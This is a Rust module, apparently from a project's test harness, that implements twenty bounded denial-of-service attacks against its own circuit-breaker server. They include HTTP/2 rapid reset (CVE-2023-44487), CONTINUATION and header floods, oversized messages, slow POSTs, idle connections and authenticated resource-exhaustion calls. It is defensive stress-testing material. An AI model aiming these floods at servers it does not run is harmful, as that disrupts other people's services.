//! What somebody might do to a server. Each is bounded in count and time, and ends by itself.

use std::{
    io::{Read as _, Write as _},
    net::{SocketAddr, TcpStream},
    sync::{
        Arc,
        atomic::{AtomicU64, Ordering},
    },
    thread,
    time::{Duration, Instant},
};

use fuseboard::pb::{AcquireRequest, Declaration, DeclareRequest, Policy, ReportBatchRequest};
use tokio::task::JoinSet;

use crate::{
    client::{Bearer, Calls, connect as connect_client},
    frames::{
        CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, HELLO, PING, RST_STREAM, SETTINGS, call, frame, header,
    },
};

pub(crate) struct Attack {
    pub(crate) name: &'static str,
    pub(crate) run: Run,
}

/// Which port is attacked, and how.
#[derive(Clone, Copy)]
pub(crate) enum Run {
    Grpc(fn(SocketAddr, Duration)),
    Http(fn(SocketAddr, Duration)),
    /// By somebody who has a token and may report.
    WithToken(fn(SocketAddr, &str, Duration)),
}

const fn grpc(name: &'static str, run: fn(SocketAddr, Duration)) -> Attack {
    Attack { name, run: Run::Grpc(run) }
}

const fn http(name: &'static str, run: fn(SocketAddr, Duration)) -> Attack {
    Attack { name, run: Run::Http(run) }
}

const fn with_token(name: &'static str, run: fn(SocketAddr, &str, Duration)) -> Attack {
    Attack { name, run: Run::WithToken(run) }
}

/// All of them.
pub(crate) const ATTACKS: [Attack; 20] = [
    grpc("idle connections", idle_connections),
    grpc("half-open handshakes", half_open_handshakes),
    grpc("connections in a loop", connections_in_a_loop),
    grpc("slow readers", slow_readers),
    grpc("rapid reset", rapid_reset),
    grpc("CONTINUATION flood", continuation_flood),
    grpc("header bombs", header_bombs),
    grpc("message bombs", message_bombs),
    grpc("messages never ended", messages_never_ended),
    grpc("empty DATA flood", empty_data_flood),
    grpc("SETTINGS flood", settings_flood),
    grpc("PING flood", ping_flood),
    grpc("reflection streams", reflection_streams),
    grpc("unfinished health checks", unfinished_health_checks),
    http("slow POSTs", slow_posts),
    http("idle keep-alives", idle_keep_alives),
    with_token("batches of new clients", batches_of_new_clients),
    with_token("declarations", declarations),
    with_token("new keys", new_keys),
    with_token("request ids for an hour", request_ids_for_an_hour),
];

const ACQUIRE: &str = "/fuseboard.v1.BreakerService/Acquire";
const WATCH: &str = "/fuseboard.v1.BreakerService/WatchEvents";
const CHECK: &str = "/grpc.health.v1.Health/Check";
const REFLECT: &str = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
const IDLE_MAX: usize = 10_000;
const THREADS: usize = 4;
/// Bytes that one attack sends at most.
const BYTES_MAX: usize = 256 << 20;

fn connect(server: SocketAddr) -> Option<TcpStream> {
    let stream = TcpStream::connect_timeout(&server, Duration::from_secs(5)).ok()?;
    let limit = Some(Duration::from_millis(500));
    stream.set_write_timeout(limit).ok()?;
    stream.set_read_timeout(limit).ok()?;
    Some(stream)
}

/// A connection that has spoken HTTP/2.
fn greeted(server: SocketAddr) -> Option<TcpStream> {
    let mut stream = connect(server)?;
    stream.write_all(HELLO).ok()?;
    Some(stream)
}

/// As many connections as there may be, of which nothing is heard.
fn idle_connections(server: SocketAddr, length: Duration) {
    // Each is a descriptor here, and one there.
    let room = rlimit::increase_nofile_limit(IDLE_MAX as u64 + 100).unwrap_or(1_024);
    let count = IDLE_MAX.min(usize::try_from(room).unwrap().saturating_sub(100));
    let connections: Vec<_> = (0..count).map_while(|_| connect(server)).collect();
    hold(length);
    drop(connections);
}

/// Connections that begin to speak and stop in the middle of the first word.
fn half_open_handshakes(server: SocketAddr, length: Duration) {
    let mut connections = Vec::new();
    for _ in 0..2_000 {
        let Some(mut stream) = connect(server) else { break };
        if stream.write_all(&HELLO[..10]).is_ok() {
            connections.push(stream);
        }
    }
    hold(length);
}

#[expect(clippy::disallowed_methods, reason = "an attack lasts in real time")]
fn hold(length: Duration) {
    thread::sleep(length);
}

fn connections_in_a_loop(server: SocketAddr, length: Duration) {
    // Few enough that the machine's ports do not run out.
    repeat(length, 5_000, || greeted(server).is_some());
}

/// Asks for much, and reads nothing of it.
fn slow_readers(server: SocketAddr, length: Duration) {
    let mut connections = Vec::new();
    for _ in 0..100 {
        let Some(mut stream) = greeted(server) else { break };
        // Watches, and calls whose answers fill what the peer takes.
        for number in 0..100_u32 {
            let (stream_id, path) = (number * 2 + 1, if number % 2 == 0 { WATCH } else { ACQUIRE });
            let mut asked = frame(HEADERS, END_HEADERS, stream_id, &call(path));
            // {"breaker": "a"}, or an empty request.
            let message: &[u8] = if number % 2 == 0 { &[0; 5] } else { &[0, 0, 0, 0, 3, 0x0a, 1, b'a'] };
            asked.extend(frame(DATA, END_STREAM, stream_id, message));
            if stream.write_all(&asked).is_err() {
                break;
            }
        }
        connections.push(stream);
    }
    hold(length);
}

/// Streams that are opened and reset at once (CVE-2023-44487).
fn rapid_reset(server: SocketAddr, length: Duration) {
    flood(server, length, |number| {
        let stream = number * 2 + 1;
        let mut frames = frame(HEADERS, END_HEADERS, stream, &call(ACQUIRE));
        frames.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
        frames
    });
}

/// Headers that never end.
fn continuation_flood(server: SocketAddr, length: Duration) {
    let more = header("x-more", &[b'a'; 1_000]);
    flood(server, length, |number| match number {
        0 => frame(HEADERS, 0, 1, &call(ACQUIRE)),
        _ => frame(CONTINUATION, 0, 1, &more),
    });
}

/// Headers far above the limit, in one block.
fn header_bombs(server: SocketAddr, length: Duration) {
    let block = [call(ACQUIRE), header("x-bomb", &[b'a'; 15_000])].concat();
    flood(server, length, |number| {
        let stream = number / 8 * 2 + 1;
        match number % 8 {
            0 => frame(HEADERS, 0, stream, &block),
            7 => frame(CONTINUATION, END_HEADERS, stream, &header("x-end", b"")),
            _ => frame(CONTINUATION, 0, stream, &header("x-bomb", &[b'a'; 15_000])),
        }
    });
}

/// Messages that say that they are 4 GiB long.
fn message_bombs(server: SocketAddr, length: Duration) {
    let part = [[0, 0xff, 0xff, 0xff, 0xff].as_slice(), &[b'a'; 16_000]].concat();
    flood(server, length, |number| {
        let stream = number * 2 + 1;
        let mut frames = frame(HEADERS, END_HEADERS, stream, &call(ACQUIRE));
        frames.extend(frame(DATA, END_STREAM, stream, &part));
        frames
    });
}

/// Calls whose message never comes: half of those that the server lets be under way. At its bound it refuses others, and says so.
fn messages_never_ended(server: SocketAddr, length: Duration) {
    let connections: Vec<_> = (0..10)
        .filter_map(|_| {
            let mut stream = greeted(server)?;
            for number in 0..500_u32 {
                let stream_id = number * 2 + 1;
                let mut asked = frame(HEADERS, END_HEADERS, stream_id, &call(ACQUIRE));
                asked.extend(frame(DATA, 0, stream_id, &[0, 0, 0, 1]));
                stream.write_all(&asked).ok()?;
            }
            Some(stream)
        })
        .collect();
    hold(length);
    drop(connections);
}

/// 21 connections with all the reflection streams that one may have: more than there may be sessions and watches.
fn reflection_streams(server: SocketAddr, length: Duration) {
    hold_streams(server, length, 21, REFLECT, &[]);
}

/// 10 connections with all the calls that one may have, of the service that answers without a token.
fn unfinished_health_checks(server: SocketAddr, length: Duration) {
    hold_streams(server, length, 10, CHECK, &[0, 0, 0, 1]);
}

/// Opens as many streams on each connection as it may have, and ends none.
fn hold_streams(server: SocketAddr, length: Duration, connections: usize, path: &str, part: &[u8]) {
    let connections: Vec<_> = (0..connections)
        .filter_map(|_| {
            let mut stream = greeted(server)?;
            for number in 0..1_000_u32 {
                let stream_id = number * 2 + 1;
                let mut asked = frame(HEADERS, END_HEADERS, stream_id, &call(path));
                asked.extend(frame(DATA, 0, stream_id, part));
                stream.write_all(&asked).ok()?;
            }
            Some(stream)
        })
        .collect();
    hold(length);
    drop(connections);
}

/// Requests whose bodies never end: as many as may be under way.
fn slow_posts(server: SocketAddr, length: Duration) {
    hold_requests(
        server,
        length,
        256,
        b"POST /api/v1/breakers/mail/acquire HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\n\
          content-length: 2\r\n\r\n{",
    );
}

/// Connections that were used once and are kept: as many as there may be.
fn idle_keep_alives(server: SocketAddr, length: Duration) {
    hold_requests(server, length, 1_000, b"GET /livez HTTP/1.1\r\nhost: localhost\r\n\r\n");
}

/// Opens connections and sends a request on each; those that are closed are opened again.
fn hold_requests(server: SocketAddr, length: Duration, count: usize, request: &[u8]) {
    _ = rlimit::increase_nofile_limit(count as u64 + 100);
    let until = now() + length;
    let mut connections: Vec<_> = (0..count).filter_map(|_| asking(server, request)).collect();
    while now() < until {
        for stream in &mut connections {
            let is_closed = stream.set_nonblocking(true).is_err() || matches!(stream.read(&mut [0; 1_024]), Ok(0));
            if is_closed && let Some(anew) = asking(server, request) {
                *stream = anew;
            }
        }
        hold(Duration::from_millis(100).min(length));
    }
}

fn asking(server: SocketAddr, request: &[u8]) -> Option<TcpStream> {
    let mut stream = connect(server)?;
    stream.write_all(request).ok()?;
    Some(stream)
}

/// DATA frames that hold nothing and end nothing.
fn empty_data_flood(server: SocketAddr, length: Duration) {
    flood(server, length, |number| match number {
        0 => frame(HEADERS, END_HEADERS, 1, &call(ACQUIRE)),
        _ => frame(DATA, 0, 1, &[]),
    });
}

fn settings_flood(server: SocketAddr, length: Duration) {
    flood(server, length, |_| frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]));
}

fn ping_flood(server: SocketAddr, length: Duration) {
    flood(server, length, |_| frame(PING, 0, 0, &[0; 8]));
}

/// Sends frames as fast as they are taken, over several connections, each opened again when it is closed.
fn flood(server: SocketAddr, length: Duration, frames: impl Fn(u32) -> Vec<u8> + Sync) {
    thread::scope(|scope| {
        for _ in 0..THREADS {
            scope.spawn(|| {
                let mut sent = 0;
                repeat(length, 5_000, || {
                    let Some(mut stream) = greeted(server) else { return false };
                    let until = now() + length;
                    for number in 0..1_000_000 {
                        let bytes = frames(number);
                        sent += bytes.len();
                        if sent > BYTES_MAX / THREADS || now() > until || stream.write_all(&bytes).is_err() {
                            break;
                        }
                    }
                    // What the server says is read, so that it is not held up by us.
                    let _ = stream.read(&mut [0; 1_024]);
                    sent <= BYTES_MAX / THREADS
                });
            });
        }
    });
}

// ---- By somebody who has a token -----------------------------------------------------------------------------------

/// Batches under client ids that were never seen: as many as are remembered, and more.
fn batches_of_new_clients(server: SocketAddr, token: &str, length: Duration) {
    calls(server, token, length, 10_000, async |client, number| {
        let client_id = format!("attacker-{number}");
        _ = client.report_batch(ReportBatchRequest { client_id, batch_sequence: 1, tallies: Vec::new() }).await;
    });
}

/// Declarations that change a thousand policies each, so that each makes a thousand events: as many as the log holds.
fn declarations(server: SocketAddr, token: &str, length: Duration) {
    calls(server, token, length, 67, async |client, number| {
        let policy = Policy { failure_threshold: Some(u32::try_from(2 + number % 90).unwrap()), ..Policy::default() };
        let declaration = |key| {
            let breaker = format!("attacker/{key}");
            Declaration { breaker, policy: Some(policy), revision: number + 1 }
        };
        let declarations = (0..1_000).map(declaration).collect();
        _ = client.declare(DeclareRequest { declarations, caller: "attacker".to_owned() }).await;
    });
}

/// Calls of breakers that were never seen.
fn new_keys(server: SocketAddr, token: &str, length: Duration) {
    calls(server, token, length, 20_000, async |client, number| {
        _ = client.acquire(AcquireRequest { breaker: format!("attacker/{number}"), ..AcquireRequest::default() }).await;
    });
}

/// Calls that the server is to remember for an hour: as many as it remembers.
fn request_ids_for_an_hour(server: SocketAddr, token: &str, length: Duration) {
    calls(server, token, length, 20_000, async |client, number| {
        let request = AcquireRequest {
            breaker: "attacker".to_owned(),
            request_id: format!("attacker-{number}"),
            lease: Some(prost_types::Duration { seconds: 3_600, nanos: 0 }),
            ..AcquireRequest::default()
        };
        _ = client.acquire(request).await;
    });
}

/// Connections of an attacker with a token, and calls at a time on each.
const CLIENTS: usize = 4;
const CALLS_AT_A_TIME: usize = 16;

/// Makes so many calls at least, and goes on for so long, whatever is answered.
fn calls<F>(server: SocketAddr, token: &str, length: Duration, count: u64, act: F)
where
    F: AsyncFn(&mut Calls, u64) + Clone + 'static,
{
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
    let (numbers, until) = (Arc::new(AtomicU64::new(0)), now() + length);
    let all = async {
        let mut tasks = JoinSet::new();
        for _ in 0..CLIENTS {
            let Ok(client) = connect_client(server, Bearer(Some(token.to_owned()))).await else { return };
            for _ in 0..CALLS_AT_A_TIME {
                let (mut client, numbers, act) = (client.clone(), Arc::clone(&numbers), act.clone());
                tasks.spawn_local(async move {
                    loop {
                        let number = numbers.fetch_add(1, Ordering::Relaxed);
                        if number >= count && now() > until {
                            return;
                        }
                        act(&mut client, number).await;
                    }
                });
            }
        }
        tasks.join_all().await;
    };
    tokio::task::LocalSet::new().block_on(&runtime, all);
}

// ---- How long and how often ----------------------------------------------------------------------------------------

/// Does something again and again, at most so often and so long, as long as it works.
fn repeat(length: Duration, times: usize, mut act: impl FnMut() -> bool) {
    let until = now() + length;
    for _ in 0..times {
        if now() > until || !act() {
            return;
        }
    }
}

#[expect(clippy::disallowed_methods, reason = "an attack lasts in real time")]
fn now() -> Instant {
    Instant::now()
}
